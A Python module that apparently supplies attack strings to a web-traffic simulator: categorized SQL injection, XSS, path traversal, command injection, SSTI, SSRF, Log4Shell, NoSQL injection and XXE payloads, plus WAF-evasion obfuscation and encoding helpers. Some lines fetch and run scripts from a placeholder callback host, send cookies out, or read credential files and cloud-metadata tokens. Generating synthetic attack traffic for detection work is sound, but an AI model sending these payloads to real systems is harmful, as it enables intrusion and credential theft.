"""Attack strings for ``attack_payload`` campaigns, written for the simulator.

Representative, not exhaustive: each category holds what real tools and
botnets send, and ``render`` varies it the way they do (URL-encoded, plus for
space, double-encoded, mixed case, inline comments). ``§N§`` stands for a
number and ``§HOST§`` for an out-of-band callback host, filled per request.
Nothing here is read from outside the package: the simulator runs anywhere.
"""

from __future__ import annotations

import re
from urllib.parse import quote, quote_plus

import numpy as np

SQLI: tuple[str, ...] = (
    "1' OR '1'='1", "1' OR 1=1-- -", "' OR ''='", "admin'--", "1\" OR \"1\"=\"1",
    "1 AND 1=1", "1 AND 1=2", "1' AND SLEEP(5)-- -", "1'; WAITFOR DELAY '0:0:5'--",
    '1 UNION SELECT NULL,NULL,NULL-- -',
    '-§N§ UNION ALL SELECT 1,2,CONCAT(username,0x3a,password),4 FROM users-- -',
    "1' UNION SELECT @@version,user(),database()#", "1 ORDER BY §N§-- -",
    "1' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT version())))-- -",
    '1) AND (SELECT 5847 FROM (SELECT(SLEEP(5)))a)-- -',
    "1' AND 1=CAST((SELECT version()) AS int)--",
    "1;SELECT PG_SLEEP(5)--", "' OR 1=1 LIMIT 1;#", "1' AND BENCHMARK(5000000,MD5(1))#",
    "1 AND (SELECT SUBSTRING(table_name,1,1) FROM information_schema.tables LIMIT 1)='a'",
    "'||(SELECT CHR(65)||CHR(66) FROM DUAL)||'",
    "1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64-- -",
    "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))",
)
XSS: tuple[str, ...] = (
    "<script>alert(1)</script>", "<script>alert(document.domain)</script>",
    "\"><script>alert(§N§)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "<svg onload=confirm`1`>", "\"><img src=x onerror=prompt(document.cookie)>",
    "javascript:alert(1)", "'-alert(1)-'", "<iframe src=javascript:alert(1)>",
    "<body onload=alert('XSS')>", "<details open ontoggle=alert(1)>",
    "\"><svg/onload=fetch('//§HOST§/'+document.cookie)>", "<a href=\"javascript:alert(1)\">x</a>",
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    "\" autofocus onfocus=alert(1) x=\"", "<input onfocus=alert(1) autofocus>",
)
TRAVERSAL: tuple[str, ...] = (
    "../../../../etc/passwd", "../../../../../../etc/passwd", "....//....//....//etc/passwd",
    "..\\..\\..\\..\\windows\\win.ini", "/etc/passwd", "../../../../etc/shadow",
    "../../../../proc/self/environ", "../../../../var/log/nginx/access.log",
    "php://filter/convert.base64-encode/resource=index.php", "file:///etc/passwd",
    "../../../../../../../../etc/hosts", "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/var/run/secrets/kubernetes.io/serviceaccount/token", "../../../.env",
    "../../../../app/config/parameters.yml", "..;/..;/..;/etc/passwd",
)
# Sent exactly like this: the encoding is the attack (overlong UTF-8, %00, %252f).
TRAVERSAL_ENCODED: tuple[str, ...] = (
    "..%2F..%2F..%2F..%2Fetc%2Fpasswd", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%252f..%252f..%252f..%252fetc%252fpasswd", "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "..%5c..%5c..%5c..%5cwindows%5cwin.ini", "../../../../etc/passwd%00.png",
    "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "..%u2215..%u2215..%u2215etc%u2215passwd",
)
CMDI: tuple[str, ...] = (
    ";id", "|id", "`id`", "$(id)", "; cat /etc/passwd", "| whoami", "&& uname -a",
    "; sleep 5", "| sleep 5 #", "$(sleep 5)", "1;ping -c 3 §HOST§", "||nslookup §HOST§||",
    '; curl http://§HOST§/x.sh | sh',
    '$(wget -qO- http://§HOST§/b)',
    '%0aid',
    "a;/bin/bash -c 'id'",
    "127.0.0.1 && cat /etc/passwd", "| powershell -c \"Invoke-WebRequest http://§HOST§\"",
    "${IFS}cat${IFS}/etc/passwd",
)
SSTI: tuple[str, ...] = (
    "{{7*7}}", "{{7*'7'}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{§N§*§N§}}",
    "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
    '*{7*7}',
    '{% debug %}',
    '${{<%[%\'"}}%\\.',
    "{{constructor.constructor('return process')().exit()}}",
)
SSRF: tuple[str, ...] = (
    'http://169.254.169.254/latest/meta-data/',
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata.google.internal/computeMetadata/v1/?recursive=true",
    "http://[::ffff:a9fe:a9fe]/latest/meta-data/", "http://2852039166/latest/meta-data/",
    "http://0xa9fea9fe/", "http://169.254.169.254.nip.io/latest/user-data",
    'http://127.0.0.1:6379/',
    'http://localhost:8080/actuator/env',
    'http://127.0.0.1:2375/containers/json',
    "gopher://127.0.0.1:6379/_INFO", "dict://localhost:11211/stats", "file:///etc/passwd",
    'http://10.0.0.1/admin',
    'http://internal-api.svc.cluster.local/',
    'http://0/',
    'http://[::1]:22/',
    "http://kubernetes.default.svc/api/v1/namespaces/default/secrets",
    "http://§HOST§/ssrf", "http://127.1/server-status",
)
LOG4SHELL: tuple[str, ...] = (
    "${jndi:ldap://§HOST§/a}", "${jndi:ldap://§HOST§:1389/Exploit}", "${jndi:rmi://§HOST§/obj}",
    "${jndi:dns://§HOST§}", "${jndi:ldaps://§HOST§/x}",
    "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://§HOST§/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://§HOST§/a}",
    "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//§HOST§/a}",
    "${jndi:${lower:l}${lower:d}${lower:a}${lower:p}://§HOST§/o}",
    "${${upper:j}ndi:ldap://§HOST§/Basic/Command/Base64/aWQ=}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://§HOST§/a}", "${jndi:ldap://${env:USER}.§HOST§/a}",
    "${jndi:ldap://${hostName}.§HOST§/a}",
)
NOSQLI_QUERY: tuple[str, ...] = (  # key suffix and value, e.g. email[$ne]=x
    "[$ne]=1", "[$ne]=", "[$gt]=", "[$regex]=.*", "[$regex]=^a", "[$exists]=true",
    "[$nin][]=admin", "[$where]=sleep(5000)", "[$in][]=admin",
)
NOSQLI_BODY: tuple[str, ...] = (  # JSON values replacing a field
    '{"$ne": null}', '{"$ne": ""}', '{"$gt": ""}', '{"$regex": ".*"}', '{"$exists": true}',
    '{"$where": "sleep(5000)"}', '{"$nin": []}',
)
XXE: tuple[str, ...] = (
    '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><'
    'foo>&xxe;</foo>',
    '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE r [<!ENTITY % ext SYSTEM "http:/'
    '/§HOST§/x.dtd">%ext;]><r/>',
    '<?xml version="1.0"?><!DOCTYPE data [<!ENTITY xxe SYSTEM "http://169.254.169.254'
    '/latest/meta-data/">]><data>&xxe;</data>',
    '<!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM "php://filter/convert.base6'
    '4-encode/resource=/etc/hostname">]><foo>&xxe;</foo>',
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol'
    ';&lol;&lol;&lol;">]><lolz>&lol2;</lolz>',
)

CATEGORIES: dict[str, tuple[str, ...]] = {
    "sqli": SQLI, "xss": XSS, "path_traversal": TRAVERSAL, "cmdi": CMDI, "ssti": SSTI,
    "ssrf": SSRF, "log4shell": LOG4SHELL, "nosqli": NOSQLI_BODY, "xxe": XXE,
}

# Parameter names attackers put each category into when the route has none.
PARAMS: dict[str, tuple[str, ...]] = {
    "sqli": ("id", "q", "search", "page", "sort", "order", "filter", "category", "user"),
    "xss": ("q", "search", "name", "message", "callback", "lang", "ref", "error"),
    "path_traversal": ("file", "path", "page", "template", "doc", "download", "include", "img"),
    "cmdi": ("cmd", "host", "ip", "ping", "exec", "domain", "filename"),
    "ssti": ("name", "template", "q", "message", "greeting", "preview"),
    "ssrf": ("url", "callback", "webhook", "image_url", "feed", "dest", "uri", "proxy"),
    "log4shell": ("q", "x", "id", "lang", "search", "user"),
    "nosqli": ("email", "username", "password", "user", "token", "id"),
    "xxe": ("xml", "data"),
}

# Where a callback lands: interactsh, Burp Collaborator, DNS loggers, a bare VPS.
OAST_SUFFIXES: tuple[str, ...] = (
    "oast.fun", "oast.pro", "interact.sh", "oastify.com", "dnslog.cn", "burpcollaborator.net",
)

# Tools seen in attack campaigns (spoofed browsers are taken from vocab.BROWSER_UAS).
ATTACK_TOOL_UAS: dict[str, str] = {
    "sqlmap": "sqlmap/1.8.2#stable (https://sqlmap.org)",
    "nuclei": "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "nikto": "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:007385)",
    "ffuf": "Fuzz Faster U Fool v2.1.0-dev",
    "wfuzz": "Wfuzz/3.1.0",
    "burp": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/122.0.6261.112 Safari/537.36 BurpSuite",
    "zap": "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0 "
           "OWASP-ZAP",
    "python": "python-requests/2.31.0",
    "go": "Go-http-client/1.1",
}

# What each tool mostly throws (a campaign then picks 1-3 of them).
TOOL_CATEGORIES: dict[str, tuple[str, ...]] = {
    "sqlmap": ("sqli",),
    "nuclei": ("log4shell", "ssti", "ssrf", "path_traversal", "xss", "cmdi"),
    "nikto": ("path_traversal", "xss", "cmdi"),
    "ffuf": ("sqli", "xss", "path_traversal", "ssti", "nosqli"),
    "wfuzz": ("sqli", "path_traversal", "cmdi"),
    "burp": ("sqli", "xss", "ssti", "ssrf", "nosqli", "xxe"),
    "zap": ("sqli", "xss", "path_traversal", "cmdi", "xxe"),
    "python": ("ssrf", "nosqli", "sqli", "log4shell"),
    "go": ("log4shell", "path_traversal", "cmdi"),
    "browser": ("sqli", "xss", "ssti", "nosqli", "ssrf"),
}

_SQL_WORDS = re.compile(r"\b(UNION|SELECT|ALL|FROM|AND|OR|ORDER|BY|SLEEP|WHERE|LIMIT|NULL)\b",
                        re.IGNORECASE)
_SAFE_RAW = "'()<>*;,!/:=$@{}[]|\\^`~.-_"


def fill(p: str, rng: np.random.Generator) -> str:
    """Replace the per-request tokens."""
    if "§N§" in p:
        p = p.replace("§N§", str(int(rng.integers(2, 9999))))
    if "§HOST§" in p:
        sub = "".join("abcdefghijklmnopqrstuvwxyz0123456789"[int(x)]
                      for x in rng.integers(0, 36, 20))
        p = p.replace("§HOST§", f"{sub}.{OAST_SUFFIXES[int(rng.integers(len(OAST_SUFFIXES)))]}")
    return p


def sample(category: str, rng: np.random.Generator) -> str:
    """One raw payload of ``category`` (not yet encoded for a URL)."""
    pool = CATEGORIES[category]
    if category == "path_traversal" and rng.random() < 0.4:
        pool = TRAVERSAL_ENCODED
    return fill(pool[int(rng.integers(len(pool)))], rng)


def obfuscate(p: str, category: str, rng: np.random.Generator) -> str:
    """Case games and inline comments, as WAF-evasion tampers do."""
    if category == "sqli":
        u = rng.random()
        if u < 0.25:
            p = _SQL_WORDS.sub(lambda m: _mixed(m.group(0), rng), p)
        elif u < 0.40:
            p = p.replace(" ", "/**/")
        elif u < 0.50:
            p = _SQL_WORDS.sub(lambda m: f"/*!50000{m.group(0)}*/", p)
    elif category == "xss" and rng.random() < 0.3:
        p = re.sub(r"script|alert|onerror|onload|svg|img", lambda m: _mixed(m.group(0), rng), p)
    return p


def _mixed(word: str, rng: np.random.Generator) -> str:
    flips = rng.random(len(word)) < 0.5
    return "".join(c.upper() if f else c.lower() for c, f in zip(word, flips, strict=True))


def encode(p: str, rng: np.random.Generator, style: str | None = None) -> str:
    """A query-string value as a client sends it; pre-encoded payloads go verbatim."""
    if re.search(r"%[0-9a-fA-F]{2}|%u[0-9a-fA-F]{4}", p):
        return p.replace(" ", "%20")
    style = style or ("full", "plus", "raw", "raw", "double")[int(rng.integers(5))]
    if style == "plus":
        return quote_plus(p, safe="")
    if style == "raw":  # spaces and quotes escaped, the rest as typed
        return quote(p, safe=_SAFE_RAW)
    if style == "double":
        return quote(quote(p, safe=""), safe="")
    return quote(p, safe="")


def encode_path(p: str) -> str:
    """A payload inside one path segment (slashes kept: traversal needs them)."""
    if re.search(r"%[0-9a-fA-F]{2}|%u[0-9a-fA-F]{4}", p):
        return p.replace(" ", "%20").replace("?", "%3F").replace("#", "%23")
    return quote(p, safe="/'()*;,!:=$@.-_~")
